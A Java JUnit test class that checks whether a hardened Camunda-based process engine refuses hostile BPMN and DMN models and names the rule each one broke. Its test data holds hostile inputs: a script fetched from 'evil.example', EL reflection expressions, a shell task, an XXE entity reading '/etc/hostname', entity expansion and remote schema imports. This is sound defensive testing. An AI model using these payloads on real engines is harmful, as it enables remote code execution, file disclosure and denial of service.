package dev.baton.process.engine.hardening;

import static dev.baton.process.engine.Models.process;
import static dev.baton.process.engine.Models.serviceTask;
import static dev.baton.process.engine.Models.userTask;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.baton.process.engine.Browser;
import dev.baton.process.engine.Models;
import dev.baton.process.engine.SecuredEngineTest;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.camunda.bpm.engine.ParseException;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Says no to a model that would run code of its author's choice, or fetch something, with the code that tells the author which rule it broke. */
@DisplayName("Hostile models")
class HostileModelsTest extends SecuredEngineTest {

    private static final String GOOD = "camunda:delegateExpression=\"${passOnDelegate}\"";

    static Stream<Arguments> hostileSteps() {
        return Stream.of(
                arguments(
                        "MODEL-003",
                        "script task in juel",
                        "<bpmn:scriptTask id=\"step\" scriptFormat=\"juel\"><bpmn:script>${trap.spring()}</bpmn:script></bpmn:scriptTask>"),
                arguments(
                        "MODEL-003",
                        "script task from a resource",
                        "<bpmn:scriptTask id=\"step\" scriptFormat=\"groovy\" camunda:resource=\"http://evil.example/x\"/>"),
                arguments("MODEL-004", "class", serviceTask("camunda:class=\"java.util.ArrayList\"", "")),
                arguments(
                        "MODEL-004",
                        "class in the old namespace",
                        serviceTask("activiti:class=\"java.util.ArrayList\"", "")),
                arguments("MODEL-005", "expression", serviceTask("camunda:expression=\"${trap.spring()}\"", "")),
                arguments(
                        "MODEL-006",
                        "bean that is no delegate",
                        serviceTask("camunda:delegateExpression=\"${dataSource}\"", "")),
                arguments(
                        "MODEL-006",
                        "delegate without the name of one",
                        serviceTask("camunda:delegateExpression=\"${janitor}\"", "")),
                arguments(
                        "MODEL-006",
                        "computed delegate",
                        serviceTask("camunda:delegateExpression=\"${passOnDelegate.getClass()}\"", "")),
                arguments("MODEL-007", "mail task", serviceTask("camunda:type=\"mail\"", "")),
                arguments("MODEL-007", "shell task", serviceTask("camunda:type=\"shell\"", "")),
                arguments(
                        "MODEL-007", "external task", serviceTask("camunda:type=\"external\" camunda:topic=\"x\"", "")),
                arguments(
                        "MODEL-007",
                        "connector",
                        serviceTask(
                                "",
                                "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>")),
                arguments(
                        "MODEL-004",
                        "listener with a class",
                        serviceTask(
                                GOOD, "<camunda:executionListener event=\"start\" class=\"java.util.ArrayList\"/>")),
                arguments(
                        "MODEL-005",
                        "listener with an expression",
                        serviceTask(
                                GOOD, "<camunda:executionListener event=\"start\" expression=\"${trap.spring()}\"/>")),
                arguments(
                        "MODEL-003",
                        "listener with a script",
                        serviceTask(
                                GOOD,
                                "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"juel\">${1}</camunda:script></camunda:executionListener>")),
                arguments(
                        "MODEL-004",
                        "task listener with a class",
                        userTask("", "<camunda:taskListener event=\"create\" class=\"java.util.ArrayList\"/>")),
                arguments(
                        "MODEL-003",
                        "script in an input parameter",
                        serviceTask(
                                GOOD,
                                "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script scriptFormat=\"juel\">${1}</camunda:script></camunda:inputParameter></camunda:inputOutput>")),
                arguments(
                        "MODEL-008",
                        "field injection",
                        serviceTask(GOOD, "<camunda:field name=\"x\" expression=\"${trap.spring()}\"/>")),
                arguments(
                        "MODEL-009",
                        "the engine in an input parameter",
                        serviceTask(
                                GOOD,
                                "<camunda:inputOutput><camunda:inputParameter name=\"x\">${execution.getProcessEngineServices()}</camunda:inputParameter></camunda:inputOutput>")),
                arguments(
                        "MODEL-009", "reflection in a due date", userTask("camunda:dueDate=\"${''.getClass()}\"", "")),
                arguments("MODEL-009", "reflection by property", userTask("camunda:assignee=\"${''.class.name}\"", "")),
                arguments("MODEL-009", "reflection in brackets", userTask("camunda:assignee=\"${''['class']}\"", "")),
                arguments("MODEL-009", "a bean's method in a name", userTask("name=\"${trap.spring()}\"", "")),
                arguments(
                        "MODEL-004",
                        "form handler",
                        userTask("camunda:formHandlerClass=\"" + Instantiated.class.getName() + "\"", "")),
                arguments(
                        "MODEL-008",
                        "embedded form",
                        userTask("camunda:formKey=\"embedded:deployment:evil.html\"", "")),
                arguments(
                        "MODEL-008",
                        "validator class",
                        userTask(
                                "",
                                "<camunda:formData><camunda:formField id=\"a\" type=\"string\"><camunda:validation><camunda:constraint name=\"validator\" config=\""
                                        + Instantiated.class.getName()
                                        + "\"/></camunda:validation></camunda:formField></camunda:formData>")),
                arguments(
                        "MODEL-004",
                        "variable mapping class",
                        "<bpmn:callActivity id=\"step\" calledElement=\"x\" camunda:variableMappingClass=\"java.util.ArrayList\"/>"),
                arguments("MODEL-008", "a case", "<bpmn:callActivity id=\"step\" camunda:caseRef=\"x\"/>"),
                arguments(
                        "MODEL-003",
                        "condition in a script language",
                        "<bpmn:task id=\"step\"/><bpmn:sequenceFlow id=\"loop\" sourceRef=\"step\" targetRef=\"step\">"
                                + "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" language=\"juel\">${true}</bpmn:conditionExpression></bpmn:sequenceFlow>"));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("hostileSteps")
    void aHostileStepIsRefused(String code, String what, String step) {
        assertThatThrownBy(() -> deploy("hostile.bpmn", process("hostile", step)))
                .as(what)
                .isInstanceOf(ParseException.class)
                .hasMessageContaining(code + " ")
                .hasMessageContaining("hostile.bpmn");
        assertThat(engine.getRepositoryService().createDeploymentQuery().count())
                .isZero();
        assertThat(trap.count()).isZero();
        assertThat(Instantiated.count).hasValue(0);
    }

    /** Named by a model where the engine instantiates while it parses. */
    public static class Instantiated {

        static final AtomicInteger count = new AtomicInteger();

        public Instantiated() {
            count.incrementAndGet();
        }
    }

    static Stream<Arguments> hostileFiles() {
        String model = process("hostile", serviceTask(GOOD, ""));
        String decision = """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
                    id="d" name="d" namespace="https://baton.example">
                  <decision id="hostile" name="hostile" camunda:historyTimeToLive="P1D"><decisionTable id="t">
                    <input id="i"><inputExpression id="ie" typeRef="string" %s><text>x</text></inputExpression></input>
                    <output id="o" name="o" typeRef="string"/>
                    <rule id="r"><inputEntry id="r1"><text></text></inputEntry><outputEntry id="r2" %s><text>"a"</text></outputEntry></rule>
                  </decisionTable></decision>
                </definitions>
                """;
        return Stream.of(
                arguments(
                        "MODEL-001",
                        "hostile.cmmn",
                        "<definitions xmlns=\"http://www.omg.org/spec/CMMN/20151109/MODEL\"/>"),
                arguments("MODEL-001", "hostile.bpmn20.xml", model),
                arguments("MODEL-001", "hostile.html", "<script>alert(1)</script>"),
                arguments("MODEL-001", "hostile.svg", "<svg/>"),
                arguments("MODEL-001", "hostile.groovy", "System.exit(1)"),
                arguments("MODEL-002", "hostile.bpmn", "this is no XML"),
                arguments(
                        "MODEL-002",
                        "hostile.bpmn",
                        model.replace("?>", "?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/hostname\">]>")),
                arguments(
                        "MODEL-002",
                        "hostile.dmn",
                        decision.formatted("", "")
                                .replace("?>", "?><!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>")),
                arguments(
                        "MODEL-002",
                        "hostile.bpmn",
                        model.replace(
                                "id=\"definitions\"",
                                "id=\"definitions\" xsi:schemaLocation=\"http://evil.example http://127.0.0.1:9/evil.xsd\"")),
                arguments(
                        "MODEL-011",
                        "hostile.bpmn",
                        model.replace(
                                "<bpmn:process",
                                "<bpmn:import importType=\"http://schemas.xmlsoap.org/wsdl/\" location=\"http://127.0.0.1:9/x\" namespace=\"x\"/><bpmn:process")),
                arguments("MODEL-010", "hostile.dmn", decision.formatted("expressionLanguage=\"juel\"", "")),
                arguments("MODEL-010", "hostile.dmn", decision.formatted("", "expressionLanguage=\"javascript\"")));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("hostileFiles")
    void aHostileFileIsRefused(String code, String name, String content) {
        assertThatThrownBy(() -> deploy(name, content))
                .isInstanceOf(ParseException.class)
                .hasMessageContaining(code + " ")
                .hasMessageContaining(name);
        assertThat(engine.getRepositoryService().createDeploymentQuery().count())
                .isZero();
    }

    @Test
    void whatModelsNeedIsTaken() {
        String step = """
                <bpmn:serviceTask id="step" name="Assign rep" camunda:asyncBefore="true" camunda:delegateExpression="${passOnDelegate}">
                  <bpmn:documentation>Assigned in a transaction of its own.</bpmn:documentation>
                  <bpmn:extensionElements>
                    <camunda:failedJobRetryTimeCycle>R3/PT10S</camunda:failedJobRetryTimeCycle>
                    <camunda:properties><camunda:property name="a" value="b"/></camunda:properties>
                    <camunda:executionListener event="start" delegateExpression="${passOnListener}"/>
                    <camunda:inputOutput><camunda:inputParameter name="key">${execution.processBusinessKey}</camunda:inputParameter></camunda:inputOutput>
                  </bpmn:extensionElements>
                </bpmn:serviceTask>
                <bpmn:boundaryEvent id="late" attachedToRef="step"><bpmn:timerEventDefinition id="t"><bpmn:timeDate xsi:type="bpmn:tFormalExpression">${dateTime().plusHours(2)}</bpmn:timeDate></bpmn:timerEventDefinition></bpmn:boundaryEvent>
                <bpmn:sequenceFlow id="a" sourceRef="late" targetRef="task"/>
                <bpmn:userTask id="task" camunda:assignee="${owner}" camunda:candidateGroups="team-${team}" camunda:dueDate="${dueAt}" camunda:priority="${score}"/>
                <bpmn:sequenceFlow id="b" sourceRef="task" targetRef="call"/>
                <bpmn:callActivity id="call" calledElement="other"><bpmn:extensionElements>
                  <camunda:in businessKey="#{execution.processBusinessKey}"/><camunda:in source="grade" target="grade"/><camunda:in sourceExpression="${empty owner}" target="x"/>
                  <camunda:out source="answer" target="answer"/></bpmn:extensionElements></bpmn:callActivity>
                <bpmn:sequenceFlow id="c" sourceRef="call" targetRef="choose"/>
                <bpmn:exclusiveGateway id="choose" default="d"/>
                <bpmn:sequenceFlow id="d" sourceRef="choose" targetRef="end"/>
                <bpmn:sequenceFlow id="e" sourceRef="choose" targetRef="end"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${answer == 'accepted' and not takeBacksLeft}</bpmn:conditionExpression></bpmn:sequenceFlow>
                """;
        assertThatCode(() -> deploy("good.bpmn", process("good", step))).doesNotThrowAnyException();
    }

    @Test
    void theAuthorReadsTheRuleInTheAnswer() {
        String boundary = "x";
        String body = "--x\r\nContent-Disposition: form-data; name=\"data\"; filename=\"hostile.bpmn\"\r\n\r\n"
                + process("hostile", serviceTask("camunda:class=\"java.util.ArrayList\"", "")) + "\r\n--x--\r\n";
        var answer = Browser.basic(port, "ana")
                .send("POST", "/engine-rest/deployment/create", body, "multipart/form-data; boundary=" + boundary);
        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.body()).contains("MODEL-004 step").contains("hostile.bpmn");
    }

    @Test
    void aVariableDoesNotTakeADelegatesPlace() {
        deploy("good.bpmn", process("good", Models.serviceTask(GOOD, "")));
        assertThatCode(() -> engine.getRuntimeService()
                        .startProcessInstanceByKey("good", java.util.Map.of("passOnDelegate", "something else")))
                .doesNotThrowAnyException();
    }
}
